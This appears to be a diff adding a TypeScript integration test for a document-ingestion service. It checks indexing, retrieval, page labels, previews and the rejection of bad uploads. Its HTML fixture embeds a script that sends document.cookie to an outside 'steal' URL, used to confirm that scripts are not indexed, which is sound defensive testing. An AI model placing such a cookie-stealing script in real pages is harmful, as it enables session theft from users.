@@ -1,0 +1,203 @@
+import { readdir } from "node:fs/promises";
+import path from "node:path";
+import { eq } from "drizzle-orm";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { listAuditEvents } from "../../db/queries/audit-events";
+import { createCollection } from "../../db/queries/collections";
+import { getVersionWithDocument } from "../../db/queries/documents";
+import { getJobById } from "../../db/queries/ingest-jobs";
+import { answerSources } from "../../db/schema";
+import { startAnswer } from "../../lib/answer/start-answer";
+import type { AnswerEvent } from "../../lib/domain/answer-events";
+import { previewPage } from "../../lib/previews/preview-page";
+import { retrieveContext } from "../../lib/retrieval/retrieve-context";
+import { bytesOf, createTestFolio, drainQueue, type TestFolio } from "../support/test-runtime";
+
+const markdown = `# Travel policy
+
+How staff travel for work.
+
+## Trains
+
+Second class by default.
+
+| Journey | Class |
+|---|---|
+| Under four hours | Second |
+| Over four hours | First |
+
+## Hotels
+
+Hotels cost at most 150 euros a night in the capital.
+`;
+
+const html = `<!DOCTYPE html>
+<html><head><title>Canteen</title><script>fetch("https://example.com/steal?" + document.cookie)</script>
+<style>body { display: none }</style></head>
+<body>
+<h1>Canteen rules</h1>
+<p>The canteen opens at half past eleven &amp; closes at two.</p>
+<h2>Allergens</h2>
+<p>Every dish lists its allergens on the counter card.</p>
+</body></html>`;
+
+const plain = "Visitor badges are returned at reception.\n\nLost badges cost ten euros.\n";
+
+let folio: TestFolio;
+let collectionId: string;
+const uploaded: Record<string, { documentId: string; versionId: string; jobId: string }> = {};
+
+const upload = (fileName: string, data: Uint8Array) =>
+  folio.ingest.accept({ collectionId, fileName, body: bytesOf(data), declaredBytes: data.byteLength });
+
+beforeAll(async () => {
+  folio = await createTestFolio({ environment: { MAX_UPLOAD_BYTES: String(64 * 1024) } });
+  collectionId = (await createCollection({ db: folio.database.db, name: "policies" })).collection.id;
+  const encode = (text: string) => new TextEncoder().encode(text);
+  uploaded.markdown = await upload("travel.md", encode(markdown));
+  uploaded.html = await upload("canteen.html", encode(html));
+  uploaded.plain = await upload("badges.txt", encode(plain));
+  await drainQueue(folio);
+  console.info(`text-documents runs on ${folio.database.driver}`);
+});
+
+afterAll(async () => {
+  await folio?.close();
+});
+
+describe("text, Markdown and HTML uploads", () => {
+  it("are detected by bytes and name, and indexed with a page per section", async () => {
+    const { db } = folio.database;
+    const versions = await Promise.all(
+      Object.values(uploaded).map(({ versionId }) => getVersionWithDocument({ db, versionId })),
+    );
+    expect(
+      versions.map((found) => [found?.version.mediaType, found?.version.status, found?.version.pageCount]),
+    ).toEqual([
+      ["text/markdown", "indexed", 3],
+      ["text/html", "indexed", 2],
+      ["text/plain", "indexed", 1],
+    ]);
+  });
+
+  it("retrieve a Markdown table with its heading path and its page's label", async () => {
+    const passages = await retrieveContext(
+      { db: folio.database.db, ...(await folio.embeddingParts()) },
+      {
+        question: "Which class for journeys over four hours?",
+        collectionIds: [collectionId],
+        limit: 10,
+        mode: "text",
+      },
+    );
+    const table = passages.find((passage) => passage.kind === "table");
+    expect(table).toMatchObject({
+      documentTitle: "travel.md",
+      pageNumber: 2,
+      pageLabel: "Trains",
+      headingPath: ["Travel policy", "Trains"],
+    });
+    expect(table?.text).toContain("| Over four hours | First |");
+  });
+
+  it("never index an HTML page's scripts or styles", async () => {
+    const passages = await retrieveContext(
+      { db: folio.database.db, ...(await folio.embeddingParts()) },
+      {
+        question: "canteen allergens steal cookie display",
+        collectionIds: [collectionId],
+        limit: 20,
+        mode: "text",
+      },
+    );
+    const fromHtml = passages.filter((passage) => passage.documentId === uploaded.html?.documentId);
+    expect(fromHtml.map((passage) => passage.pageLabel).sort()).toEqual(["Allergens", "Canteen rules"]);
+    expect(fromHtml.map((passage) => passage.text).join(" ")).not.toMatch(/steal|cookie|display/);
+    expect(fromHtml.map((passage) => passage.text).join(" ")).toContain("half past eleven & closes");
+  });
+
+  it("name the page by its label in the answer's sources, the ledger and the passages kept with the answer", async () => {
+    const events: AnswerEvent[] = [];
+    for await (const event of await startAnswer(folio, {
+      question: "How much may a hotel cost?",
+      collectionIds: [collectionId],
+      actor: "tester",
+    })) {
+      events.push(event);
+    }
+    const retrieval = events.find((event) => event.type === "retrieval-end");
+    if (retrieval?.type !== "retrieval-end") throw new Error("no retrieval-end event");
+    const hotels = retrieval.sources.find((source) => source.text.includes("150 euros"));
+    expect(hotels).toMatchObject({ pageNumber: 3, pageLabel: "Hotels" });
+    const end = events.at(-1);
+    if (end?.type !== "answer-end") throw new Error(`expected answer-end, got ${JSON.stringify(end)}`);
+    const audit = (await listAuditEvents({ db: folio.database.db })).find(
+      (event) => event.seq === end.auditSeq,
+    );
+    const chunks = JSON.parse(audit?.payload ?? "{}").chunks as { n: number; pageLabel?: string }[];
+    expect(chunks.find((chunk) => chunk.n === hotels?.n)?.pageLabel).toBe("Hotels");
+    const kept = await folio.database.db
+      .select({ n: answerSources.n, pageLabel: answerSources.pageLabel })
+      .from(answerSources)
+      .where(eq(answerSources.answerId, end.answerId));
+    expect(kept.find((row) => row.n === hotels?.n)?.pageLabel).toBe("Hotels");
+  });
+
+  it("preview a page as its text, where the chunk's box is the passage's span", async () => {
+    const { db } = folio.database;
+    const found = await getVersionWithDocument({ db, versionId: uploaded.markdown?.versionId ?? "" });
+    if (!found) throw new Error("no version");
+    const content = await previewPage(folio, { version: found.version, pageNumber: 3, size: "reading" });
+    if (content.kind !== "text") throw new Error("expected a text page");
+    expect(content.page).toMatchObject({ pageNumber: 3, pageCount: 3, label: "Hotels" });
+    const [chunk] = (
+      await retrieveContext(
+        { db, ...(await folio.embeddingParts()) },
+        { question: "150 euros a night", collectionIds: [collectionId], limit: 1, mode: "text" },
+      )
+    ).filter((passage) => passage.pageNumber === 3);
+    const box = chunk?.box;
+    if (!box) throw new Error("the chunk has no box");
+    expect(content.page.text.slice(box[1], box[3])).toBe(chunk.text);
+    await expect(
+      previewPage(folio, { version: found.version, pageNumber: 4, size: "reading" }),
+    ).rejects.toMatchObject({ code: "not_found:page_number" });
+  });
+});
+
+describe("bad text files", () => {
+  const blobCount = async () => {
+    const root = path.join(folio.dataDir, "blobs");
+    const shards = (await readdir(root)).filter((name) => name !== ".incoming");
+    const counts = await Promise.all(
+      shards.map(async (shard) => (await readdir(path.join(root, shard))).length),
+    );
+    return counts.reduce((sum, count) => sum + count, 0);
+  };
+
+  it.each([
+    [
+      "binary junk named .txt",
+      "junk.txt",
+      Uint8Array.from({ length: 4096 }, (_, index) => (index * 7) % 256),
+      "invalid:text_encoding",
+    ],
+    ["a 0-byte Markdown file", "empty.md", new Uint8Array(), "invalid:empty_file"],
+    ["a text file over the size limit", "huge.txt", new Uint8Array(80 * 1024).fill(0x61), "too_large:upload"],
+    ["a CSV file", "data.csv", new TextEncoder().encode("a,b\n1,2\n"), "unsupported:file_type"],
+  ])("refuse %s before storing anything", async (_name, fileName, data, code) => {
+    const before = await blobCount();
+    await expect(upload(fileName, data)).rejects.toMatchObject({ code });
+    expect(await blobCount()).toBe(before);
+  });
+
+  it("fail a text file that turns binary after its first KiB with a typed reason", async () => {
+    const data = new Uint8Array([...new TextEncoder().encode("text ".repeat(400)), 0, 0, 0, 0xff, 0xfe]);
+    const accepted = await upload("half-binary.txt", data);
+    await drainQueue(folio);
+    expect(await getJobById({ db: folio.database.db, id: accepted.jobId })).toMatchObject({
+      state: "failed",
+      errorCode: "invalid:text_encoding",
+    });
+  });
+});
